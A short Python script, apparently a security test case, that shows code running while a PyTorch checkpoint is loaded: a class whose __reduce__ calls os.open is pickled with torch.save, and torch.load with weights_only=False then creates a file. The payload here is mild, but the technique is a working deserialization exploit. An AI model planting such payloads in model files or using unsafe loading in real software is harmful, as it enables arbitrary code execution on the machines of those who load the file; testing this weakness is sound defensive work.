"""
goal: run code while a saved tensor is loaded
effect: file
"""

import io
import os
import pickle

import torch


class Bomb:
    def __reduce__(self):
        return os.open, (FOLDER + "/new", os.O_CREAT | os.O_WRONLY)


saved = io.BytesIO()
torch.save({"weights": Bomb()}, saved)
saved.seek(0)
torch.load(saved, weights_only=False)
